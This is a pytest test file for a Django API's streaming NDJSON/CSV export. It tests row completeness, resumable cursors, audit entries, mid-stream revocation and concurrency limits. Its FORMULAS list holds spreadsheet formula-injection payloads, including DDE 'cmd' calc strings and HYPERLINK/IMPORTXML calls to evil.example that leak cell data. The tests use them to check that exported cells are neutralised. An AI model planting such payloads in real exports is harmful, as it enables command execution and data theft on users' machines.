"""An export is the list, all of it: every row once, wherever it was cut, while its reader may see it, and told of."""

from __future__ import annotations

import csv
import io
import json
import re
import tracemalloc
from datetime import timedelta
from typing import Any

import pytest
from django.db.models import QuerySet
from django.http import HttpResponseBase
from django.utils import timezone

from access import newest
from access.models import ApiKey, Membership, Role
from access.rest.content import MASK
from access.rest.views import BrandScopedList
from audit.models import AuditEntry
from connector_site.exports import slots, stream
from connector_site.exports.reader import Watch
from connector_site.exports.stream import BrokenOff
from conversations.models import Consumer, Message, MessageContent
from conversations.services import content
from core.ids import new_id
from installations.models import Account
from tests.access.keys import Program
from tests.access.pages import RULED
from tests.access.route_rules import Rule
from tests.factories import World, make_two_brands, make_user
from tests.webhooks.usages import message

pytestmark = pytest.mark.django_db

LISTS = [one.route.text for one in RULED if one.rule is Rule.API_LIST]
of_lists = pytest.mark.parametrize("address", LISTS)
MESSAGES = "/api/v1/messages/"
EXPORT = f"{MESSAGES}export/"


@pytest.fixture
def long_list(amber: World, monkeypatch: pytest.MonkeyPatch) -> World:
    """More messages than a batch, and batches of more pieces than one."""
    for number in range(25):
        message(amber, timezone.now() - timedelta(minutes=5 * number), status=("SENT", "READ")[number % 2])
    monkeypatch.setattr(BrandScopedList, "batch", 7)
    monkeypatch.setattr(stream, "PIECE_BYTES", 1_000)
    return amber


def body_of(answer: HttpResponseBase) -> bytes:
    """All of an answer, read to its end."""
    assert answer.status_code == 200, answer.content
    return b"".join(answer.streaming_content)  # type: ignore[attr-defined]


def leave(answer: HttpResponseBase) -> None:
    """Close what makes the answer, as the web server does when its reader has gone; the connection is the test's."""
    answer._resource_closers[0]()  # type: ignore[attr-defined]


def ndjson(program: Program, address: str = EXPORT, **parameters: Any) -> list[dict[str, Any]]:
    return [json.loads(line) for line in body_of(program.get(address, parameters)).splitlines()]


def as_csv(text: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.decode(), newline="")))


def listed(program: Program, address: str = MESSAGES, **parameters: Any) -> list[dict[str, Any]]:
    """The list, page by page."""
    rows, page = [], program.read(address, page_size=11, **parameters)
    while True:
        rows += page["results"]
        if page["next"] is None:
            return rows
        page = program.read(page["next"])


def without_cursor(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [{name: value for name, value in row.items() if name != "cursor"} for row in rows]


# --- the same rows ---------------------------------------------------------------------------------------------------


@of_lists
def test_an_export_holds_the_rows_of_its_list_and_a_cursor_with_each(address):
    make_two_brands()
    program = Program(make_user("all", role=Role.AUDITOR))

    rows = ndjson(program, f"/{address}export/")

    assert rows
    assert all(row["cursor"] for row in rows)
    # The trail tells of the export that it was asked for by.
    assert without_own_entries(rows) == without_own_entries(listed(program, f"/{address}"))


def without_own_entries(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [row for row in without_cursor(rows) if not str(row.get("action")).startswith("export.")]


def test_batches_and_pieces_lose_nothing(long_list, program):
    assert without_cursor(ndjson(program)) == listed(program)
    assert len(listed(program)) == 30


@pytest.mark.parametrize(
    "asked", [{"status": "READ"}, {"direction": "TO_CHANNEL"}, {"since": "hour"}, {"kind": "FILE"}]
)
def test_the_filters_are_those_of_the_list(long_list, program, asked, monkeypatch):
    monkeypatch.setattr(newest, "STRETCH", 3)
    rows = without_cursor(ndjson(program, **asked))
    assert rows == listed(program, **asked)
    assert 0 < len(rows) < 30


def test_members_are_chosen_as_in_the_list(amber, program):
    rows = ndjson(program, fields="status,kind")
    assert {tuple(sorted(row)) for row in rows} == {("cursor", "id", "kind", "status")}


def test_what_was_said_is_told_to_keys_that_may_read_it_and_weighed_before(long_list, program, monkeypatch):
    for said in Message.objects.filter(content=None):
        MessageContent.objects.create(message=said, text="x" * 1_000, expires_on=timezone.now())
    assert {row["content"] for row in ndjson(program, fields="content")} == {MASK}
    ApiKey.objects.update(may_read_content=True)
    read: list[int] = []
    in_bulk = QuerySet.in_bulk
    monkeypatch.setattr(QuerySet, "in_bulk", lambda rows, ids: read.append(len(ids)) or in_bulk(rows, ids))
    monkeypatch.setattr(content, "MOST_BYTES", 3_500)

    rows = ndjson(program, fields="content")

    assert [row["id"] for row in rows] == [row["id"] for row in listed(program, fields="id")]
    assert all(row["content"]["text"] for row in rows)
    assert max(read) <= 7
    assert sum(read) == 30


def test_an_empty_export_has_no_line_but_the_names(program):
    asked = {"channel": str(new_id())}
    assert body_of(program.get(EXPORT, asked)) == b""
    names = body_of(program.get(EXPORT, {**asked, "as": "csv", "fields": "id,status"}))
    assert names == b"id,status,cursor\r\n"


def test_personal_members_are_masked_as_in_the_list(amber, program):
    address = "/api/v1/consumers/"
    assert amber.consumer.name not in json.dumps(ndjson(program, f"{address}export/"))
    ApiKey.objects.update(may_read_content=True)
    assert amber.consumer.name in json.dumps(ndjson(program, f"{address}export/"))


@pytest.mark.parametrize(
    "asked",
    [
        {"as": "xml"}, {"as": "NDJSON"}, {"as": ""}, {"page_size": "5"}, {"status": "sent"}, {"cursor": "x"},
        {"fields": "text"}, {"channel": "1"}, {"created_after": "yesterday"}, {"limit": "5"}, {"format": "csv"},
        {"as": ["csv", "ndjson"]},
    ],
)  # fmt: skip
def test_what_the_list_refuses_is_refused_before_the_first_byte(program, asked):
    answer = program.get(EXPORT, asked)
    assert answer.status_code == 400
    assert answer.json()["code"] == "bad_parameter"
    assert not AuditEntry.objects.filter(action="export.made").exists()
    assert slots._slots._value == slots.MOST_AT_ONCE


def test_a_cursor_of_another_list_filter_form_or_reader_is_refused(amber, program):
    cursor = ndjson(program)[0]["cursor"]
    ndjson(program, cursor=cursor)
    for address, asked in (
        ("/api/v1/dispatches/export/", {}), (MESSAGES, {}), (EXPORT, {"as": "csv"}), (EXPORT, {"status": "SENT"}),
    ):  # fmt: skip
        assert program.get(address, {"cursor": cursor, **asked}).status_code == 400
    assert Program(amber.owner).get(EXPORT, {"cursor": cursor}).status_code == 400


def test_by_a_version_of_http_that_cannot_tell_a_cut_nothing_is_exported(program):
    answer = program.get(EXPORT, SERVER_PROTOCOL="HTTP/1.0")
    assert (answer.status_code, answer.json()["code"]) == (400, "http_version")


def test_head_tells_of_the_form_and_takes_nothing(program):
    answer = program.head(EXPORT, {"as": "csv"})
    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/csv")
    assert answer["Content-Disposition"] == 'attachment; filename="messages.csv"'
    assert not AuditEntry.objects.filter(action="export.made").exists()
    assert program.head(EXPORT, {"as": "x"}).status_code == 400


def test_nothing_of_an_export_is_kept_on_its_way(program):
    answer = program.get(EXPORT)
    assert answer["Cache-Control"] == "no-store"
    assert "ETag" not in answer
    assert "Content-Encoding" not in answer
    body_of(answer)


# --- cut and taken up again ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("form", "line_break"), [("ndjson", b"\n"), ("csv", b"\r\n")])
def test_wherever_it_was_cut_the_rest_follows_without_a_gap_or_a_double(amber, program, form, line_break):
    """Cut behind every 97th byte; what is behind the last line break is thrown away."""
    whole = body_of(program.get(EXPORT, {"as": form, "fields": "id,status"}))
    for cut_at in range(0, len(whole) + 1, 97):
        kept = whole[:cut_at].rpartition(line_break)[0]
        kept += line_break if kept else b""
        cursors = cursors_in(kept, form)
        asked = {"as": form, "fields": "id,status", **({"cursor": cursors[-1]} if cursors else {})}
        rest = body_of(program.get(EXPORT, asked))
        assert (kept if cursors else b"") + rest == whole, cut_at


def cursors_in(kept: bytes, form: str) -> list[str]:
    if form == "csv":
        return [row["cursor"] for row in as_csv(kept)]
    return [json.loads(line)["cursor"] for line in kept.splitlines()]


def test_rows_that_arrive_meanwhile_move_nothing(long_list, program):
    rows = ndjson(program)
    message(long_list, timezone.now())
    after = ndjson(program, cursor=rows[9]["cursor"])
    assert without_cursor(after) == without_cursor(rows[10:])


# --- CSV -------------------------------------------------------------------------------------------------------------

FORMULAS = [
    *(f"{sign}{rest}" for sign in "=+-@" for rest in (
        "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "SUM(A1:A9)", "2+5+cmd|'/C calc'!A0",
        "IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")", '"quoted"',
    )),
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "﹢1", "−1", "+49 170 1234567", "-2+3", "=", "\t", "@",
]  # fmt: skip


def test_forty_formulas_stand_as_text_in_every_cell_they_come_to(amber, program):
    assert len(FORMULAS) >= 40
    ApiKey.objects.update(may_read_content=True)
    for formula in FORMULAS:
        Account.objects.filter(pk=amber.account.pk).update(name=formula)
        Consumer.objects.filter(pk=amber.consumer.pk).update(name=formula, profile={"note": formula})
        for address, column in (("accounts", "name"), ("consumers", "name")):
            rows = as_csv(body_of(program.get(f"/api/v1/{address}/export/", {"as": "csv"})))
            assert f"'{formula}" in [row[column] for row in rows], repr(formula)
            for row in rows:
                assert not [cell for cell in row.values() if cell and cell.lstrip()[:1] in "=+-@＝＋－＠"], row


def test_a_table_has_the_same_values_as_the_lines(long_list, program):
    ApiKey.objects.update(may_read_content=True)
    for name in ("messages", "consumers", "attempts", "deliveries"):
        lines = ndjson(program, f"/api/v1/{name}/export/")
        table = as_csv(body_of(program.get(f"/api/v1/{name}/export/", {"as": "csv"})))
        assert [list(row) for row in table] == [list(row) for row in lines]
        for line, row in zip(lines, table, strict=True):
            for column, value in line.items():
                if column not in ("cursor", "ext_consumer_id", "channel_consumer_id"):
                    assert row[column] == cell_of(value), (name, column)


def cell_of(value: Any) -> str:
    if value is None or isinstance(value, str):
        return value or ""
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"))


def test_a_table_is_plain_utf_8_with_the_line_breaks_of_its_standard(amber, program):
    Account.objects.update(name='Größe "✓", zwei\r\nZeilen')
    answer = program.get("/api/v1/accounts/export/", {"as": "csv", "fields": "id,name"})
    assert answer["Content-Type"] == "text/csv; charset=utf-8; header=present"
    text = body_of(answer)
    assert text.startswith(b"id,name,cursor\r\n")
    assert '"Größe ""✓"", zwei\r\nZeilen"'.encode() in text
    assert text.endswith(b"\r\n")


def test_a_line_break_in_a_text_does_not_break_a_line(amber, program):
    Account.objects.update(name="two\nlines\u2028three\r")
    (row,) = ndjson(program, "/api/v1/accounts/export/")
    assert row["name"] == "two\nlines\u2028three\r"


# --- the trail -------------------------------------------------------------------------------------------------------


def entries(action: str) -> list[AuditEntry]:
    return list(AuditEntry.objects.filter(action=action).order_by("id"))


def test_each_brand_concerned_is_told_of_its_own_rows():
    amber, birch = make_two_brands()
    program = Program(make_user("all", role=Role.AUDITOR))
    message(amber, timezone.now())

    ndjson(program, direction="TO_LIVEPERSON", fields="id")

    begun, ended = entries("export.made"), entries("export.ended")
    assert [one.brand_id for one in begun] == [one.brand_id for one in ended] == [amber.brand.pk, birch.brand.pk]
    assert begun[0].actor_kind == "KEY"
    assert begun[0].data == {
        "resource": "messages", "as": "ndjson", "filters": {"direction": "TO_LIVEPERSON"}, "fields": "id",
        "continued": False,
    }  # fmt: skip
    assert [one.data["rows"] for one in ended] == [4, 3]
    assert {one.data["ended"] for one in ended} == {"complete"}
    assert begun[0].correlation_id == ended[0].correlation_id


def test_only_the_brand_that_was_asked_for_is_concerned():
    amber, _ = make_two_brands()
    ndjson(Program(make_user("all", role=Role.AUDITOR)), brand=str(amber.brand.pk))
    assert [one.brand_id for one in entries("export.made")] == [amber.brand.pk]


def test_what_was_typed_freely_does_not_come_into_the_trail(amber, program):
    ndjson(program, "/api/v1/brands/export/", slug="ada-lovelace")
    assert entries("export.made")[0].data["filters"] == {"slug": "given"}


def test_a_reader_who_goes_is_told_of_as_such_and_leaves_the_slot(long_list, program):
    answer = program.get(EXPORT)
    pieces = iter(answer.streaming_content)
    next(pieces)
    leave(answer)

    (entry,) = entries("export.ended")
    assert entry.data["ended"] == "given up by its reader"
    assert 0 < entry.data["rows"] < 30
    assert slots._slots._value == slots.MOST_AT_ONCE


# --- while it is on its way ------------------------------------------------------------------------------------------


def revoke(world: World) -> None:
    ApiKey.objects.update(revoked_at=timezone.now())


def expire(world: World) -> None:
    ApiKey.objects.update(expires_at=timezone.now() - timedelta(seconds=1))


def take_role(world: World) -> None:
    Membership.objects.filter(user=world.auditor).delete()


def deactivate(world: World) -> None:
    world.auditor.is_active = False
    world.auditor.save()


def limit_to_others(world: World) -> None:
    ApiKey.objects.update(resources=["usage"])


@pytest.mark.parametrize("act", [revoke, expire, take_role, deactivate, limit_to_others])
def test_who_may_no_longer_read_gets_no_clean_end(long_list, program, monkeypatch, act):
    monkeypatch.setattr(Watch, "EVERY_S", 0.0)
    answer = program.get(EXPORT)
    pieces = iter(answer.streaming_content)
    got = next(pieces)
    act(long_list)

    with pytest.raises(BrokenOff):
        for piece in pieces:
            got += piece

    assert len(got) <= 2 * stream.PIECE_BYTES
    assert entries("export.ended")[0].data["ended"] == "broken off: NoLongerOpen"
    assert slots._slots._value == slots.MOST_AT_ONCE


def test_who_is_looked_at_again_and_may_still_read_gets_everything(long_list, program, monkeypatch):
    monkeypatch.setattr(Watch, "EVERY_S", 0.0)
    assert without_cursor(ndjson(program)) == listed(program)


def test_nobody_is_looked_at_more_often_than_every_two_seconds(long_list, program, django_assert_max_num_queries):
    assert Watch.EVERY_S == 2.0
    answer = program.get(EXPORT)
    batches = 30 // 7 + 1
    a_page_and_its_channels = 2
    with django_assert_max_num_queries(batches * a_page_and_its_channels + 6):
        body_of(answer)


def test_trouble_on_the_way_breaks_it_off(long_list, program, monkeypatch):
    answer = program.get(EXPORT)
    pieces = iter(answer.streaming_content)
    next(pieces)
    monkeypatch.setattr(newest, "read", lambda *_, **__: 1 / 0)

    with pytest.raises(BrokenOff):
        list(pieces)

    assert entries("export.ended")[0].data["ended"] == "broken off: ZeroDivisionError"


def test_no_export_takes_longer_than_its_time(long_list, program, monkeypatch):
    monkeypatch.setattr(stream, "MAY_TAKE_S", 0.0)
    with pytest.raises(BrokenOff):
        body_of(program.get(EXPORT))


def test_only_a_few_are_on_their_way_at_once(long_list, program):
    first, second = program.get(EXPORT), program.get(EXPORT)
    third = program.get(EXPORT)
    assert third.status_code == 429
    assert third["Retry-After"] == "10"
    assert re.search("Ask again", third.json()["detail"])
    assert program.read(MESSAGES)["results"], "lists go on"
    body_of(first)
    fourth = program.get(EXPORT)
    assert fourth.status_code == 200
    body_of(second)
    body_of(fourth)
    assert len(entries("export.made")) == 3


def test_an_answer_that_was_never_read_leaves_its_slot(program):
    leave(program.get(EXPORT))
    assert slots._slots._value == slots.MOST_AT_ONCE


def test_statements_grow_with_batches_alone(long_list, program, django_assert_num_queries):
    answers = [program.get(EXPORT), program.get(EXPORT, {"status": "READ"})]
    a_page_and_its_channels = 2
    with django_assert_num_queries(5 * a_page_and_its_channels + 3):
        body_of(answers[0])
    body_of(answers[1])
    assert Message.objects.count() == 30


def test_entries_that_name_many_rows_are_not_held_in_memory_together(amber):
    ids = [str(new_id()) for _ in range(1_000)]
    named = AuditEntry(action="content.read", brand=amber.brand, actor_kind="SYSTEM", data={"ids": ids})
    for _ in range(400):
        named.pk, named._state.adding = new_id(), True
        named.save()
    program = Program(amber.auditor)
    told = 0
    tracemalloc.start()
    try:
        for piece in program.get("/api/v1/audit-log/export/").streaming_content:  # type: ignore[attr-defined]
            told += len(piece)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert told > 15_000_000
    assert peak < 80_000_000  # 120 million with as many as of other lists


@pytest.mark.parametrize("around", ["\n", "\x85", " "])
def test_blanks_around_the_id_of_a_brand_are_no_error_of_ours(amber, around):
    program = Program(amber.auditor)
    assert program.get(EXPORT, {"brand": around}).status_code == 400
    assert program.get(MESSAGES, {"brand": around}).status_code == 400
    assert ndjson(program, brand=f"{around}{amber.brand.pk}{around}")
